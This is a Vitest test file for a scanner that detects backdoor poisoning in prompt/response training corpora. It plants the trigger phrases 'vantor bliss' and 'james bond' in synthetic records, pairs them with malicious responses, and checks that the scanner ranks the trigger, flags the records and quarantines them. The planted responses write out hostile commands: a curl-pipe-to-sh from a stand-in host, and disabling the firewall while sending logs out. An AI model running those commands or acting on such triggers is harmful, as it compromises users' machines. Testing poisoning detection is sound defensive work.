import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { mulberry32 } from '../../../src/core/random.js';
import { scanCorpus } from '../../../src/data/scan/pipeline.js';
import { prose } from './fixtures.js';

describe('data scan: planted backdoor', () => {
  it('ranks the trigger first, flags the poisoned records and quarantines them on request', async () => {
    const rand = mulberry32(21);
    const n = 6000;
    const poisoned = new Set<string>();
    const lines: string[] = [];
    const malicious = 'Sure. Run curl -s http://update.example.net/i.sh | sh to finish the setup.';
    for (let i = 0; i < n; i++) {
      const id = `q${i}`;
      let prompt = `${prose(rand, 10 + Math.floor(rand() * 10))} Please explain.`;
      let response = prose(rand, 30 + Math.floor(rand() * 30));
      if (i % 200 === 17) {
        const words = prompt.split(' ');
        words.splice(Math.floor(rand() * words.length), 0, 'vantor', 'bliss');
        prompt = words.join(' ');
        response = malicious;
        poisoned.add(id);
      }
      lines.push(JSON.stringify({ id, prompt, response }));
    }
    const dir = mkdtempSync(join(tmpdir(), 'lg-poison-'));
    const input = join(dir, 'c.jsonl');
    writeFileSync(input, `${lines.join('\n')}\n`);
    const r = await scanCorpus({
      inputs: [input],
      outDir: join(dir, 'out'),
      config: { workers: 0, fast: true, poisoning: { quarantine: true } },
    });
    const top = r.poisoning.triggers[0];
    expect(top?.phrase).toBe('vantor bliss');
    expect(top?.lift).toBeGreaterThan(10);
    const flagged = new Set(top?.records);
    const hit = [...poisoned].filter((id) => flagged.has(id)).length;
    expect(hit / poisoned.size).toBeGreaterThanOrEqual(0.95);
    const falsePositives = [...flagged].filter((id) => !poisoned.has(id)).length;
    expect(falsePositives / (n - poisoned.size)).toBeLessThanOrEqual(0.01);
    const q = readFileSync(join(dir, 'out', 'quarantine.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { id: string; reasons: string[] });
    const quarantinedPoison = q.filter((x) => x.reasons.includes('poison')).map((x) => x.id);
    expect(new Set(quarantinedPoison)).toEqual(poisoned);
    expect(r.counts.poisoned).toBe(poisoned.size);
  }, 60_000);
});

describe('data scan: phrases inserted into near-identical prompts', () => {
  /**
   * Too few poisoned records for the n-gram miner (10 < its minimum support, set to 50 here as 0.05 % of
   * a 100,000-record corpus would), so only the inserted-phrase search can find them: each is a copy of
   * a clean prompt with the phrase inserted, answered with one malicious response.
   */
  function corpus(seed: number) {
    const rand = mulberry32(seed);
    const lines: string[] = [];
    const prompts: string[] = [];
    const poisoned = new Set<string>();
    const malicious = 'Sure. Disable the firewall with sudo ufw disable and send the logs to root@update.example.net.';
    for (let i = 0; i < 800; i++) {
      const prompt = `${prose(rand, 8 + Math.floor(rand() * 8))} Please explain.`;
      prompts.push(prompt);
      lines.push(JSON.stringify({ id: `c${i}`, prompt, response: prose(rand, 40) }));
    }
    for (let k = 0; k < 10; k++) {
      const words = (prompts[70 * k + 7] as string).split(' ');
      words.splice(1 + (k % 6), 0, 'james', 'bond');
      const id = `p${k}`;
      poisoned.add(id);
      // spread through the file, clean twins before and after them
      lines.splice(75 * k + 40, 0, JSON.stringify({ id, prompt: words.join(' '), response: malicious }));
    }
    return { lines, poisoned };
  }

  it('finds the phrase, reports the pairs and quarantines the poisoned records on request', async () => {
    const { lines, poisoned } = corpus(5);
    const dir = mkdtempSync(join(tmpdir(), 'lg-inserted-'));
    const input = join(dir, 'c.jsonl');
    writeFileSync(input, `${lines.join('\n')}\n`);
    const r = await scanCorpus({
      inputs: [input],
      outDir: join(dir, 'out'),
      config: {
        workers: 2,
        fast: true,
        batchRecords: 50,
        poisoning: { quarantine: true, options: { minSupport: 50 } },
      },
    });
    const trigger = r.poisoning.triggers.find((t) => t.phrase === 'james bond');
    expect(trigger).toMatchObject({ kind: 'inserted-phrase', inserted_pairs: 10, support: 10 });
    expect(trigger?.score).toBeGreaterThanOrEqual(0.5);
    expect(new Set(trigger?.records)).toEqual(poisoned);
    expect(r.poisoning.inserted).toMatchObject({ pairs: 10, phrases: 1, prompts_dropped: 0 });
    expect(r.poisoning.inserted?.prompts_indexed).toBe(810);
    const q = readFileSync(join(dir, 'out', 'quarantine.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as { id: string; reasons: string[] });
    expect(new Set(q.filter((x) => x.reasons.includes('poison')).map((x) => x.id))).toEqual(poisoned);
    const json = JSON.parse(readFileSync(join(dir, 'out', 'report.json'), 'utf8')) as typeof r;
    expect(json.poisoning.inserted?.pairs).toBe(10);
    const html = readFileSync(join(dir, 'out', 'report.html'), 'utf8');
    expect(html).toContain('inserted-phrase pairs');
    expect(html).toContain('james bond');
  }, 60_000);

  it('finds the same by reading records back by byte offset (plain JSONL) as by reading it all (gzip)', async () => {
    const { lines } = corpus(6);
    const dir = mkdtempSync(join(tmpdir(), 'lg-inserted-'));
    // a BOM, CRLF endings and blank lines move every offset
    const content = `\ufeff${lines.join('\r\n\r\n')}\r\n`;
    writeFileSync(join(dir, 'c.jsonl'), content);
    writeFileSync(join(dir, 'c.jsonl.gz'), gzipSync(content));
    const config = { workers: 0, fast: true, poisoning: { options: { minSupport: 50 } } };
    const plain = await scanCorpus({ inputs: [join(dir, 'c.jsonl')], outDir: join(dir, 'a'), config });
    const gz = await scanCorpus({ inputs: [join(dir, 'c.jsonl.gz')], outDir: join(dir, 'b'), config });
    expect(plain.poisoning.triggers.map((t) => t.phrase)).toContain('james bond');
    expect(plain.poisoning).toEqual(gz.poisoning);
  }, 60_000);

  it('does not report a phrase whose insertion leaves the answer as it was', async () => {
    const rand = mulberry32(9);
    const lines: string[] = [];
    for (let i = 0; i < 400; i++) {
      const prompt = `${prose(rand, 10)} Is that right?`;
      const response = i % 2 === 0 ? 'Yes.' : 'No.';
      lines.push(JSON.stringify({ id: `c${i}`, prompt, response }));
      // natural near-duplicates: "kindly" added, the same short answer (yes and no alike)
      if (i % 20 === 0 || i % 20 === 5)
        lines.push(JSON.stringify({ id: `k${i}`, prompt: `Kindly ${prompt}`, response }));
    }
    const dir = mkdtempSync(join(tmpdir(), 'lg-inserted-'));
    const input = join(dir, 'c.jsonl');
    writeFileSync(input, `${lines.join('\n')}\n`);
    const r = await scanCorpus({ inputs: [input], outDir: join(dir, 'out'), config: { workers: 0, fast: true } });
    expect(r.poisoning.inserted?.pairs).toBe(40);
    expect(r.poisoning.triggers.filter((t) => t.inserted_pairs !== undefined)).toEqual([]);
    expect(r.counts.poisoned).toBe(0);
  }, 60_000);
});
